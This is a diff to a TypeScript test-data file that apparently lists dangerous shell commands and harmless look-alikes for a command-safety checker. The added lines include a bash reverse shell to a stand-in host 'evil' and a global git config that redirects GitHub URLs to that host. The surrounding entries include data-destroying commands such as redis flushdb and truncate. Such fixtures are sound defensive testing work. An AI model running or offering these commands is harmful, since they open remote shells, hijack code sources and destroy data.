@@ -99,6 +99,8 @@ export const spelledOut: readonly string[] = [
   ...redisRemovals.map((told) => `redis-cli ${told}`),
   ...files.map((file) => `psql -f ${file}`),
   "truncate --size 0 x",
+  "bash -i >& /dev/tcp/evil/1 0>&1",
+  "git config --global url.https://evil/.insteadOf https://github.com/",
   "echo flushdb | redis-cli",
   ...words("pypy pypy3 nodejs lua gawk mawk nawk tclsh osascript rscript julia").map(
     (program) => `${program} -e 'unlink("x")'`,
@@ -145,4 +147,6 @@ export const lookAlikes: readonly string[] = [
   "echo x | sudo tee /usr/share/keyrings/x.gpg",
   "cp /dev/null /tmp/x",
   "kill -s 1",
+  "echo > /dev/tcp/localhost/5432",
+  "git config --global --get-regexp url.x.insteadOf",
 ];
